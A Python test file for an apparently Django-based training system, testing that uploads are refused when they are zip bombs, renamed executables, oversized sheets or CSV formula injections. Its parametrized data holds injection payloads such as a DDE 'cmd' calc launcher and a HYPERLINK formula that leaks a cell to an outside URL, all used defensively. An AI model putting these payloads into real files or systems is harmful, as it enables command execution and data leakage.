"""Issue 8 §5: uploads are judged by their content, and a spreadsheet built to exhaust the
reader's memory is refused before anything unpacks it — with a clear message, nothing
written, and the worker still alive (one cell in XFD1048576 otherwise aborts the process)."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from cme.core.errors import DomainError
from cme.core.excel import Column, read_table
from cme.core.imports import read_upload
from cme.core.tests.files import docx_bytes
from cme.people.imports import preview_staff_import
from cme.people.models import Person

COLUMNS = [Column("name", "姓名", required=True), Column("id_number", "证件号码", required=True)]


def workbook(*cells) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "证件号码"])
    sheet.append(["张三", "430102199001011234"])
    for ref, value in cells:
        sheet[ref] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def code_of(data: bytes) -> str:
    with pytest.raises(DomainError) as refused:
        read_table(data, COLUMNS)
    return refused.value.code


def test_a_cell_far_outside_the_import_range_is_refused_before_reading():
    assert code_of(workbook(("XFD1048576", "x"))) == "FILE_RANGE_TOO_LARGE"
    assert code_of(workbook(("A200000", "x"))) == "FILE_RANGE_TOO_LARGE"
    assert code_of(workbook(("IW2", "x"))) == "FILE_RANGE_TOO_LARGE"  # column 257


def test_a_sheet_within_range_reads_as_before():
    table = read_table(workbook(("Z100", "备注"), ("B100", "430102199001011234")), COLUMNS)
    assert [(r.number, r.values["name"]) for r in table.rows] == [(2, "张三"), (100, "")]


def test_a_zip_bomb_is_refused_by_its_unpacked_size():
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for part in source.infolist():
            bomb.writestr(part, source.read(part))
        with bomb.open("xl/media/padding.bin", "w") as padding:
            zeros = bytes(1024 * 1024)
            for _ in range(101):
                padding.write(zeros)
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024  # small on the wire
    assert code_of(data) == "FILE_UNPACKS_TOO_LARGE"


def test_a_renamed_executable_is_not_a_spreadsheet():
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(512)
    assert code_of(exe) == "FILE_TYPE"


def test_the_staff_import_refuses_the_file_and_writes_nothing(cast):
    before = Person.objects.count()
    upload = SimpleUploadedFile("名单.xlsx", workbook(("XFD1048576", "x")))
    with pytest.raises(DomainError) as refused:
        preview_staff_import(cast.city_hospital, upload, actor=cast.users["city_admin"])
    assert "超出导入范围" in refused.value.message
    assert Person.objects.count() == before


# --- a renamed program, a PDF or a CSV under an Excel name: refused by its first bytes ---

WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(512)
LINUX_EXE = b"\x7fELF\x02\x01\x01\x00" + bytes(512)
CSV = "姓名,证件号码\n张三,430102199001011234\n".encode()


def refusal(name: str, data: bytes) -> DomainError:
    with pytest.raises(DomainError) as refused:
        read_upload(SimpleUploadedFile(name, data))
    assert refused.value.code == "FILE_TYPE"
    assert refused.value.field == "file"
    return refused.value


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("roster.xlsx", WINDOWS_EXE, "Windows可执行程序"),
        ("roster.xlsx", LINUX_EXE, "Linux可执行程序"),
        ("roster.xls", WINDOWS_EXE, "Windows可执行程序"),
        ("roster.csv", LINUX_EXE, "Linux可执行程序"),
        ("roster.xlsx", b"%PDF-1.4\n", "PDF文件"),
        ("roster.xlsx", CSV, "文本或CSV文件"),
        ("roster.xls", CSV, "文本或CSV文件"),
        ("roster.exe", CSV, "“exe”文件"),
    ],
)
def test_an_upload_that_is_not_a_spreadsheet_is_refused_naming_what_it_is(name, data, kind):
    message = refusal(name, data).message
    assert message == (
        "上传的文件“{name}”不是Excel表格（.xlsx/.xls）或CSV文件：内容是{kind}。"
        "请使用下载的模板填写后重新上传。".format(name=name, kind=kind)
    )


def test_a_zip_that_is_no_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(DomainError) as refused:
        read_table(buffer.getvalue(), COLUMNS)
    assert refused.value.code == "FILE_TYPE"
    assert "压缩包而不是Excel表格" in refused.value.message


def test_real_workbooks_and_csv_files_pass():
    for name, data in [("名单.xlsx", workbook()), ("名单.csv", CSV), ("名单.xls", workbook())]:
        assert read_upload(SimpleUploadedFile(name, data)) == data


def test_the_check_reads_only_the_first_bytes_of_a_refused_file():
    class Upload(SimpleUploadedFile):
        read_sizes: list

        def read(self, size=-1):
            self.read_sizes.append(size)
            return super().read(size)

    upload = Upload("roster.xlsx", WINDOWS_EXE + bytes(1024 * 1024))
    upload.read_sizes = []
    with pytest.raises(DomainError):
        read_upload(upload)
    assert upload.read_sizes == [4096]


# --- a cell a spreadsheet would run as a formula (CSV injection) is refused with its row ---


def csv_file(*rows: list[str]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["姓名", "证件号码"], *rows])
    return buffer.getvalue().encode()


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://example.com/?x="&A1,"点击")',
        "@SUM(A1:A9)",
        "+1+cmd|' /C calc'!A0",
        "-2+3*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_a_formula_in_a_csv_cell_is_refused_with_its_row_and_column(value):
    table = read_table(csv_file([value, "430102199001011234"]), COLUMNS)
    first = value.strip()[0]
    assert [str(e) for e in table.errors] == [
        "第2行 姓名：内容以“{c}”开头，在电子表格中会被当作公式执行，不能导入；"
        "请删除开头的“{c}”后重新导入。".format(c=first)
    ]


def test_a_formula_in_a_workbook_is_never_run_and_one_typed_as_text_is_refused():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "证件号码"])
    sheet.append(["=1+1", "430102199001011234"])  # a real formula: only its cached value counts
    sheet.append(["张三", "430102199001011234"])
    sheet["A3"].value = "=1+1"
    sheet["A3"].data_type = "s"  # a text cell that reads "=1+1"
    buffer = io.BytesIO()
    book.save(buffer)
    table = read_table(buffer.getvalue(), COLUMNS)
    assert table.rows[0].values["name"] == ""  # no cached value, nothing computed
    assert [(e.row, e.column) for e in table.errors] == [(3, "姓名")]


def test_signed_numbers_and_phone_numbers_are_not_formulas():
    data = csv_file(["-", "+86 138-0000-0000"], ["-1.5", "430102199001011234"])
    assert read_table(data, COLUMNS).errors == []


@pytest.mark.parametrize(
    ("name", "data"), [("名单.xlsx", WINDOWS_EXE), ("名单.xlsx", LINUX_EXE), ("名单.xlsx", CSV)]
)
def test_the_staff_import_page_refuses_a_renamed_file_and_writes_nothing(login, name, data):
    from django.urls import reverse

    from cme.people.models import StaffImport

    client = login("city_admin")
    response = client.post(
        reverse("people:import_upload"), {"file": SimpleUploadedFile(name, data)}
    )
    assert response.status_code == 200
    assert "不是Excel表格（.xlsx/.xls）或CSV文件" in response.content.decode()
    assert not StaffImport.objects.exists()


def _staff(cast, upload):
    from cme.people.imports import preview_staff_import

    return preview_staff_import(cast.city_hospital, upload, actor=cast.users["city_admin"])


def _roster(cast, upload):
    from cme.holding.rosters import preview_roster_import
    from cme.holding.tests.factories import held_session

    return preview_roster_import(held_session(cast), upload, actor=cast.users["city_admin"])


def _plan(cast, upload):
    from cme.plans.imports import preview_plan_import
    from cme.plans.tests.helpers import plan_of

    return preview_plan_import(plan_of(cast), upload, actor=cast.users["city_admin"])


def _published(cast, upload):
    from cme.projects.published import preview_published_import

    return preview_published_import(upload, actor=cast.users["province"])


@pytest.mark.parametrize("data", [WINDOWS_EXE, LINUX_EXE, CSV], ids=["exe", "elf", "csv"])
@pytest.mark.parametrize("importer", [_staff, _roster, _plan, _published])
def test_every_excel_import_refuses_a_renamed_file_before_reading_it(cast, importer, data):
    """The distance imports (completions, attendance) are checked in cme/distance/tests."""
    records = {m: m.objects.count() for m in _import_models()}
    with pytest.raises(DomainError) as refused:
        importer(cast, SimpleUploadedFile("roster.xlsx", data))
    assert refused.value.code == "FILE_TYPE"
    assert "不是Excel表格" in refused.value.message
    assert {m: m.objects.count() for m in _import_models()} == records


def _import_models():
    from cme.holding.models import RosterImport
    from cme.people.models import StaffImport
    from cme.plans.models import PlanImport
    from cme.projects.models import PublishedListImport

    return [StaffImport, RosterImport, PlanImport, PublishedListImport]


# --- a document upload (schedule, exam paper, textbook) that is a zip must be Word or Excel ---


def zipped(**parts: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/"), text)
    return buffer.getvalue()


def document_refused(data: bytes) -> bool:
    from django.core.exceptions import ValidationError

    from cme.core.uploads import validate_document

    upload = SimpleUploadedFile("日程表.docx", data)
    try:
        validate_document(upload)
    except ValidationError as refused:
        assert refused.code == "FILE_TYPE"
        return True
    assert upload.tell() == 0  # left ready to be stored
    return False


def test_a_word_or_excel_document_passes_and_any_other_zip_is_refused():
    assert not document_refused(docx_bytes())
    assert not document_refused(workbook())
    assert document_refused(zipped(**{"payload.exe": "MZ", "readme.txt": "点我"}))
    assert document_refused(zipped(**{"META-INF__MANIFEST.MF": "Manifest-Version: 1.0"}))
    assert document_refused(zipped(**{"word__document.xml": "<w:document/>"}))  # no types
    assert document_refused(b"PK\x03\x04" + bytes(200))  # only the signature
